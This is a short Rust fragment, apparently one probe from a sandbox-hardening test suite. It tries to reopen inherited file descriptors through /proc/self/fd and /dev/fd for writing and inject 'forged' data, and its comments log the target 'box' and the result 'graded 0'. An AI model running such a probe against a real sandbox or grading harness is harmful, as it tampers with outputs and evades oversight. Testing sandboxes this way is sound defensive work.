//! tries: to open every descriptor again by its path
//! undefended: a pipe would open for writing, by Linux's rules
//! down: box
//! seen: graded 0

use std::io::Write as _;

fn strike() {
    for number in 3..64 {
        for dir in ["/proc/self/fd", "/proc/thread-self/fd", "/dev/fd"] {
            let path = format!("{dir}/{number}");
            let opened = std::fs::OpenOptions::new().write(true).open(&path);
            if opened.is_ok_and(|mut file| file.write_all(b"forged").is_ok()) {
                loot(&path);
            }
        }
    }
}
